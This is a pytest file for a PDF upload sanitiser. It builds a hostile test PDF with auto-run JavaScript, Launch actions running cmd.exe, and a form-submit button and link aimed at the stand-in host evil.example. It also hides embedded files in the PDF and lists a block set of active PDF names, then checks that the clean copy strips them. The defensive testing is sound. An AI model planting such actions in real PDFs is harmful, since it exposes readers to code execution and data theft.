"""The clean copy of an uploaded PDF: what the visitor sees, nothing that acts or carries a file."""

import pypdf
import pytest
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from printer.upload import prepare

ATTACHED = b"GEHEIM-BIJLAGE-4711"
EMBEDDED = b"GEHEIM-INGEBED-0815"
MEDIA = b"GEHEIM-FILMPJE-2323"
TUCKED = b"GEHEIM-VERSTOPT-1701"
SCRIPT = "app.alert('boe')"
FILLED_IN = "Jan Janssens"
# Names that act, link, or carry a file: none may be left anywhere in the clean copy.
ACTIVE = {
    "/JavaScript", "/JS", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/AA", "/OpenAction",
    "/A", "/URI", "/SubmitForm", "/GoToR", "/ImportData", "/XFA", "/AcroForm", "/Annots",
    "/Link", "/FileAttachment", "/RichMedia", "/RichMediaContent", "/3D", "/Sound", "/Movie",
    "/Screen", "/Widget", "/EF", "/AF", "/Filespec", "/Rendition", "/3DD",
}


def _name_map(**entries):
    return DictionaryObject({NameObject(f"/{k}"): v for k, v in entries.items()})


def _stream(data: bytes, **entries) -> StreamObject:
    stream = StreamObject()
    stream.set_data(data)
    stream.update(_name_map(**entries))
    return stream


def _action(kind: str, **entries) -> DictionaryObject:
    return _name_map(S=NameObject(f"/{kind}"), **entries)


def _script() -> DictionaryObject:
    return _action("JavaScript", JS=TextStringObject(SCRIPT))


def _rect(*numbers) -> ArrayObject:
    return ArrayObject(FloatObject(n) for n in numbers)


def _file(writer, name: str, data: bytes) -> IndirectObject:
    """A file specification that carries its bytes (an embedded file stream)."""
    embedded = writer._add_object(_stream(data, Type=NameObject("/EmbeddedFile")))
    return writer._add_object(_name_map(Type=NameObject("/Filespec"), F=TextStringObject(name),
                                        EF=_name_map(F=embedded)))


def _annotation(writer, subtype: str, rect, **entries) -> IndirectObject:
    return writer._add_object(_name_map(Type=NameObject("/Annot"), Subtype=NameObject(subtype),
                                        Rect=_rect(*rect), **entries))


def _text_field(writer, page, flags: int = 4) -> IndirectObject:
    """A filled-in text field whose appearance stream draws its value, with a keystroke script."""
    helvetica = writer._add_object(_name_map(Type=NameObject("/Font"),
                                             Subtype=NameObject("/Type1"),
                                             BaseFont=NameObject("/Helvetica")))
    shown = _stream(f"/Tx BMC q BT /Helv 12 Tf 2 6 Td ({FILLED_IN}) Tj ET Q EMC".encode(),
                    Type=NameObject("/XObject"), Subtype=NameObject("/Form"),
                    BBox=_rect(0, 0, 200, 24), Resources=_name_map(Font=_name_map(Helv=helvetica)))
    return _annotation(writer, "/Widget", (100, 700, 300, 724), FT=NameObject("/Tx"),
                       T=TextStringObject("naam"), V=TextStringObject(FILLED_IN),
                       F=NumberObject(flags), P=page.indirect_reference,
                       AP=_name_map(N=writer._add_object(shown)),
                       AA=_name_map(K=_script()))


def hostile_pdf(path):
    """One page with every kind of active content, and a filled-in form field."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(595, 842)
    writer.add_attachment("geheim.txt", EMBEDDED)
    writer.root_object["/Names"][NameObject("/JavaScript")] = _name_map(Names=ArrayObject([
        TextStringObject("bij het openen"),
        writer._add_object(_script())]))
    writer.root_object[NameObject("/OpenAction")] = _script()
    page[NameObject("/AA")] = _name_map(O=_script(),
                                        C=_action("Launch", F=TextStringObject("cmd.exe")))
    field = _text_field(writer, page)
    button = _annotation(writer, "/Widget", (100, 600, 200, 630), FT=NameObject("/Btn"),
                         T=TextStringObject("verstuur"), Ff=NumberObject(65536),
                         A=_action("SubmitForm", F=TextStringObject("http://evil.example/")),
                         AA=_name_map(D=_action("ImportData", F=TextStringObject("x.fdf"))))
    page[NameObject("/Annots")] = ArrayObject([
        field, button,
        _annotation(writer, "/Link", (50, 50, 150, 70),
                    A=_action("URI", URI=TextStringObject("http://evil.example/"))),
        _annotation(writer, "/Link", (50, 80, 150, 100),
                    A=_action("Launch", F=TextStringObject("cmd.exe"),
                              Next=_action("GoToR", F=TextStringObject("andere.pdf")))),
        _annotation(writer, "/FileAttachment", (50, 110, 70, 130),
                    FS=_file(writer, "bijlage.txt", ATTACHED)),
        _annotation(writer, "/RichMedia", (50, 140, 250, 240), RichMediaContent=_name_map(
            Assets=_name_map(Names=ArrayObject([TextStringObject("film.swf"),
                                                _file(writer, "film.swf", MEDIA)])))),
        _annotation(writer, "/Sound", (50, 250, 70, 270),
                    Sound=writer._add_object(_stream(b"\0" * 64, Type=NameObject("/Sound"),
                                                     R=NumberObject(8000)))),
        _annotation(writer, "/Movie", (300, 50, 400, 150),
                    Movie=_name_map(F=_file(writer, "film.mov", MEDIA))),
        _annotation(writer, "/3D", (300, 160, 400, 260),
                    **{"3DD": writer._add_object(_stream(MEDIA, Type=NameObject("/3D"),
                                                         Subtype=NameObject("/U3D")))}),
        _annotation(writer, "/Screen", (300, 270, 400, 370),
                    A=_action("Rendition", JS=TextStringObject(SCRIPT))),
    ])
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(_name_map(
        Fields=ArrayObject([field, button]),
        XFA=writer._add_object(_stream(b"<xdp:xdp><script>xfa.host.gotoURL()</script></xdp:xdp>")),
    ))
    # A script and a file tucked into a picture the page draws: readers ignore them, we drop them.
    tucked = _stream(b"0 0 1 rg 0 0 10 10 re f", Type=NameObject("/XObject"),
                     Subtype=NameObject("/Form"), BBox=_rect(0, 0, 10, 10),
                     AA=_name_map(O=_script()),
                     AF=ArrayObject([_file(writer, "verstopt.txt", TUCKED)]))
    page[NameObject("/Resources")] = _name_map(XObject=_name_map(Tucked=writer._add_object(tucked)))
    page.replace_contents(_stream(b"q 1 0 0 1 400 400 cm /Tucked Do Q"))
    writer.write(path)
    return path


def every_object(path):
    """Every indirect object in the file, as pypdf reads it, and the trailer."""
    reader = pypdf.PdfReader(path)
    numbers = [(n, gen) for gen, table in reader.xref.items() for n in table]
    numbers += [(n, 0) for n in reader.xref_objStm]
    found = [reader.trailer]
    for number, generation in numbers:
        found.append(reader.get_object(IndirectObject(number, generation, reader)))
    return found


def names_and_data(objects):
    """All names (keys and values) and all decoded stream data inside the given objects."""
    names, data, todo = set(), [], list(objects)
    while todo:
        obj = todo.pop()
        if isinstance(obj, StreamObject):
            data.append(obj.get_data())
        if isinstance(obj, DictionaryObject):
            names.update(obj.keys())
            todo.extend(v for v in obj.values() if not isinstance(v, IndirectObject))
        elif isinstance(obj, ArrayObject):
            todo.extend(v for v in obj if not isinstance(v, IndirectObject))
        elif isinstance(obj, NameObject):
            names.add(obj)
    return names, b"\n".join(data)


@pytest.fixture
def cleaned(tmp_path):
    source = hostile_pdf(tmp_path / "formulier.pdf")
    target = tmp_path / "clean.pdf"
    prepare(source, target)
    return source, target


def test_the_hostile_test_file_has_every_kind_of_active_content(cleaned):
    source, _ = cleaned
    names, _ = names_and_data(every_object(source))
    assert names >= ACTIVE
    for secret in (ATTACHED, EMBEDDED, MEDIA, TUCKED):
        assert secret in source.read_bytes()


def test_clean_copy_has_nothing_that_acts_or_carries_a_file(cleaned):
    _, target = cleaned
    names, data = names_and_data(every_object(target))
    assert names & ACTIVE == set()
    raw = target.read_bytes()
    for secret in (ATTACHED, EMBEDDED, MEDIA, TUCKED, SCRIPT.encode(), b"evil.example"):
        assert secret not in raw
        assert secret not in data


def test_clean_copy_keeps_the_filled_in_field_as_page_content(cleaned):
    _, target = cleaned
    reader = pypdf.PdfReader(target)
    assert len(reader.pages) == 1
    assert FILLED_IN in reader.pages[0].extract_text()
    assert "/Annots" not in reader.pages[0]


@pytest.mark.parametrize(("flags", "shown"), [(4, True), (0, True), (2, False)])
def test_clean_copy_shows_a_field_as_the_screen_does(tmp_path, flags, shown):
    """Marked for printing or not, a field shows on paper as on screen; a hidden one does not."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(595, 842)
    page[NameObject("/Annots")] = ArrayObject([_text_field(writer, page, flags)])
    writer.write(tmp_path / "form.pdf")
    prepare(tmp_path / "form.pdf", tmp_path / "clean.pdf")
    assert (FILLED_IN in pypdf.PdfReader(tmp_path / "clean.pdf").pages[0].extract_text()) == shown
